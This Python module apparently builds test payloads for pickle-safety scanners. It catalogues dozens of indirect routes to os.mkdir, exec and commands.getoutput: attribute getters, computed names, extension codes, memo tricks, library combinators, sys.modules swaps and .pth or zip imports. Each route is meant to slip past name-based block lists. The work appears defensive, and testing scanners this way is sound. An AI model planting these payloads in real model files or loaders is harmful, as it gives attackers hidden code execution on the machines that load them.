"""Payloads that get at what they call by a detour: attributes, imports, combinators, computed names."""

from __future__ import annotations

from attacks.expressions import Coded, Computed, Extend, Fill, Name, Opcodes, State, Supplied, Then, do, name, new
from attacks.mechanism import REVIEW, Mechanism, Target

_R, _C, _I, _N = "resolves a name", "combines functions", "imports", "hides a name"
_OS = do("builtins.__import__", "os")
_MODERN = ("4", "5", "GLOBAL")


def _module(target: Target) -> bytes:
    return f"import os\nos.mkdir({target.marker!r})\ndef act(): pass\n".encode()


def _zipped(target: Target) -> bytes:
    from zip_builder import Member, archive

    return archive(Member(name=b"inner.py", data=_module(target)))


def _from_file(target: Target) -> object:
    spec = do("importlib.util.spec_from_file_location", "beside", target.beside("beside.py"))
    module = do("importlib.util.module_from_spec", spec)
    return do(do("builtins.getattr", do("builtins.getattr", module, "__loader__"), "exec_module"), module)


def _swapped(target: Target) -> object:
    """Another module under a module's name: what is then imported from it is something else."""
    return Then((Fill(name("sys.modules"), (("json", _OS),)), do("json.mkdir", target.marker)))


def _patched(target: Target) -> object:
    """A module is given state."""
    change = State(Name("json", "decoder"), {"JSONDecoder": name("os.mkdir")})
    return Then((change, do("json.decoder.JSONDecoder", target.marker)))


def _swapped_in_memo(target: Target) -> bytes:
    """The last text that was read is not the one that stands on the stack when the memo takes it."""
    return (
        b"\x80\x04\x8c\x02os\x8c\x05mkdir\x86\x94\x30\x8c\x04json\x94\x30h\x00cbuiltins\ntuple\n0"
        + b"cbuiltins\nexec\n(V"
        + target.source.encode()
        + b"\ntR."
    )


MECHANISMS = (
    Mechanism(title="getattr", family=_R, build=lambda t: do(do("builtins.getattr", _OS, "mkdir"), t.marker)),
    Mechanism(
        title="an attribute getter",
        family=_R,
        build=lambda t: do(do(do("operator.attrgetter", "mkdir"), _OS), t.marker),
    ),
    Mechanism(
        title="a method caller", family=_R, build=lambda t: do(do("operator.methodcaller", "mkdir", t.marker), _OS)
    ),
    Mechanism(
        title="an item getter on a module's names",
        family=_R,
        build=lambda t: do(do(do("operator.itemgetter", "mkdir"), do("builtins.vars", _OS)), t.marker),
    ),
    Mechanism(
        title="the table of modules",
        family=_R,
        build=lambda t: do(
            do("builtins.getattr", do("operator.getitem", name("sys.modules"), "os"), "mkdir"), t.marker
        ),
    ),
    Mechanism(
        title="the dictionary of built-ins",
        family=_R,
        build=lambda t: do(do("operator.getitem", name("builtins.__dict__"), "exec"), t.source),
    ),
    Mechanism(
        title="a dotted name through another module",
        family=_R,
        build=lambda t: do("logging:os.mkdir", t.marker),
        styles=_MODERN,
    ),
    Mechanism(
        title="a dotted name through a class",
        family=_R,
        build=lambda t: do(do("operator.getitem", Name("json", "JSONEncoder.encode.__builtins__"), "exec"), t.source),
        styles=_MODERN,
    ),
    Mechanism(
        title="import_module",
        family=_R,
        build=lambda t: do(do("builtins.getattr", do("importlib.import_module", "os"), "mkdir"), t.marker),
    ),
    Mechanism(title="a name resolver", family=_R, build=lambda t: do(do("pkgutil.resolve_name", "os:mkdir"), t.marker)),
    Mechanism(title="the locator of the help", family=_R, build=lambda t: do(do("pydoc.locate", "os.mkdir"), t.marker)),
    Mechanism(
        title="a fold over getattr",
        family=_R,
        build=lambda t: do(do("functools.reduce", name("builtins.getattr"), ["mkdir"], _OS), t.marker),
    ),
    # Names that no list can hold
    Mechanism(
        title="a computed module",
        family=_N,
        build=lambda t: do(Computed(do("builtins.str", "os"), "mkdir"), t.marker),
        styles=_MODERN,
    ),
    Mechanism(
        title="a computed name",
        family=_N,
        build=lambda t: do(Computed("os", do(Name("builtins", "str.lower"), "MKDIR")), t.marker),
        styles=_MODERN,
    ),
    Mechanism(
        title="a joined module",
        family=_N,
        build=lambda t: do(Computed(do(Name("builtins", "str.join"), "", ["o", "s"]), "mkdir"), t.marker),
        styles=_MODERN,
    ),
    Mechanism(
        title="a module that the loader supplies",
        family=_N,
        build=lambda t: do(Computed(Supplied("os"), "mkdir"), t.marker),
        loader="pickle with persistent ids",
        styles=_MODERN,
    ),
    Mechanism(
        title="a payload inside a persistent id",
        family=_N,
        build=lambda t: Supplied(do("os.mkdir", t.marker)),
        styles=("1", "2", "3", "4", "5"),
    ),
    Mechanism(title="an extension code of a byte", family=_N, build=lambda t: do(Coded(0x70), t.marker)),
    Mechanism(title="an extension code of two bytes", family=_N, build=lambda t: do(Coded(0x7071, 2), t.marker)),
    Mechanism(title="an extension code of four bytes", family=_N, build=lambda t: do(Coded(0x707172, 4), t.marker)),
    Mechanism(
        title="an extension code that the stream registers",
        family=_N,
        build=lambda t: Then((do("copyreg.add_extension", "posix", "mkfifo", 0x61), do(Coded(0x61), t.marker))),
    ),
    Mechanism(title="a name swapped in the memo", family=_N, build=_swapped_in_memo),
    Mechanism(
        title="a payload that is dropped", family=_N, build=lambda t: Then((do("os.mkdir", t.marker), {"weights": []}))
    ),
    Mechanism(
        title="a payload under a mark",
        family=_N,
        build=lambda t: Opcodes(b"(cos\nmkdir\n(V" + t.marker.encode() + b"\ntR1}"),
    ),
    Mechanism(
        title="a name of Python 2",
        family=_N,
        build=lambda t: do("commands.getoutput", t.command),
        styles=("0", "1", "2", "INST"),
    ),
    # Combinators
    Mechanism(title="a partial", family=_C, build=lambda t: do(do("functools.partial", name("os.mkdir"), t.marker))),
    Mechanism(
        title="a partial by its state",
        family=_C,
        build=lambda t: do(
            State(new("functools.partial", name("builtins.print")), (name("os.mkdir"), (t.marker,), {}, None))
        ),
        styles=("2", "3", "4", "5"),
    ),
    Mechanism(
        title="a map that a list consumes",
        family=_C,
        build=lambda t: do("builtins.list", do("builtins.map", name("os.mkdir"), [t.marker])),
    ),
    Mechanism(
        title="a map that __new__ consumes",
        family=_C,
        build=lambda t: new("builtins.tuple", new("builtins.map", name("os.mkdir"), [t.marker])),
        styles=("2", "3", "4", "5"),
    ),
    Mechanism(
        title="a filter that a queue consumes",
        family=_C,
        build=lambda t: do("collections.deque", do("builtins.filter", name("os.mkdir"), [t.marker])),
    ),
    Mechanism(
        title="a star map",
        family=_C,
        build=lambda t: do("builtins.list", do("itertools.starmap", name("os.mkdir"), [(t.marker, 0o777)])),
    ),
    Mechanism(
        title="an accumulation",
        family=_C,
        build=lambda t: do("builtins.list", do("itertools.accumulate", [t.marker, 0o777], name("os.mkdir"))),
    ),
    Mechanism(
        title="a grouping",
        family=_C,
        build=lambda t: do("builtins.list", do("itertools.groupby", [t.marker], name("os.mkdir"))),
    ),
    Mechanism(title="a fold", family=_C, build=lambda t: do("functools.reduce", name("os.mkdir"), [t.marker, 0o777])),
    Mechanism(
        title="an iterator over calls",
        family=_C,
        build=lambda t: do(
            "builtins.list", do("builtins.iter", do("functools.partial", name("os.mkdir"), t.marker), None)
        ),
    ),
    Mechanism(
        title="a cache around a function",
        family=_C,
        build=lambda t: do(
            do("functools._lru_cache_wrapper", name("os.mkdir"), 1, False, Name("functools", "_CacheInfo")), t.marker
        ),
    ),
    Mechanism(
        title="a property that is read",
        family=_C,
        build=lambda t: do(Name("builtins", "property.__get__"), do("builtins.property", name("os.mkdir")), t.marker),
        styles=_MODERN,
    ),
    Mechanism(
        title="a bound method",
        family=_C,
        build=lambda t: do(do("types.MethodType", name("os.mkdir"), t.marker)),
    ),
    Mechanism(
        title="the smallest by a key",
        family=_C,
        build=lambda t: do("heapq.nsmallest", 1, [t.marker], name("os.mkdir")),
    ),
    Mechanism(
        title="copyreg's own constructor",
        family=_C,
        build=lambda t: do(
            "copyreg.__newobj__", name("builtins.tuple"), do("builtins.map", name("os.mkdir"), [t.marker])
        ),
    ),
    Mechanism(
        title="a universal function of numpy",
        family=_C,
        build=lambda t: do(do("numpy.frompyfunc", name("os.mkdir"), 1, 1), t.marker),
        needs=("numpy",),
    ),
    Mechanism(
        title="an array from a function",
        family=_C,
        build=lambda t: do("numpy.fromfunction", do("functools.partial", name("os.mkdir"), t.marker), ()),
        needs=("numpy",),
    ),
    Mechanism(
        title="a map over a tree of tensors",
        family=_C,
        build=lambda t: do("torch.utils._pytree.tree_map", name("os.mkdir"), [t.marker]),
        needs=("torch",),
    ),
    Mechanism(
        title="a batch of calls of joblib",
        family=_C,
        build=lambda t: do(
            do(
                "joblib.parallel.BatchedCalls",
                [(name("os.mkdir"), (t.marker,), {})],
                (do("joblib._parallel_backends.SequentialBackend"), 1),
            )
        ),
        needs=("joblib",),
    ),
    # Imports
    Mechanism(
        title="a module that lies beside the file",
        family=_I,
        build=lambda t: Name("inner", "act"),
        beside={"inner.py": _module},
        at_least=REVIEW,
        loader="pickle beside its module",
    ),
    Mechanism(
        title="the search path is changed",
        family=_I,
        build=lambda t: Then((Extend(name("sys.path"), (t.folder,)), Name("inner", "act"))),
        beside={"inner.py": _module},
    ),
    Mechanism(title="a module by its file", family=_I, build=_from_file, beside={"beside.py": _module}),
    Mechanism(
        title="a loader of source",
        family=_I,
        build=lambda t: do(
            Name("importlib.machinery", "SourceFileLoader.load_module"),
            do("importlib.machinery.SourceFileLoader", "beside", t.beside("beside.py")),
        ),
        beside={"beside.py": _module},
        before=(3, 15),
        styles=_MODERN,
    ),
    Mechanism(
        title="a module in a zip archive",
        family=_I,
        build=lambda t: do(
            Name("zipimport", "zipimporter.load_module"), do("zipimport.zipimporter", t.beside("inner.zip")), "inner"
        ),
        beside={"inner.zip": _zipped},
        before=(3, 15),
        styles=_MODERN,
    ),
    Mechanism(
        title="a script beside the file",
        family=_I,
        build=lambda t: do("runpy.run_path", t.beside("beside.py")),
        beside={"beside.py": _module},
    ),
    Mechanism(
        title="a path file of site-packages",
        family=_I,
        build=lambda t: do("site.addpackage", t.folder, "beside.pth", None),
        beside={"beside.pth": lambda t: f"import os; os.mkdir({t.marker!r})\n".encode()},
    ),
    Mechanism(
        title="a hub of models in a folder",
        family=_I,
        build=lambda t: do(
            State(
                new("functools.partial", name("builtins.print")),
                (name("torch.hub.load"), (t.folder, "act"), {"source": "local"}, None),
            )
        ),
        beside={"hubconf.py": _module},
        styles=("2", "3", "4", "5"),
        needs=("torch",),
    ),
    Mechanism(title="another module under its name", family=_I, build=_swapped),
    Mechanism(title="a module is given state", family=_I, build=_patched),
)
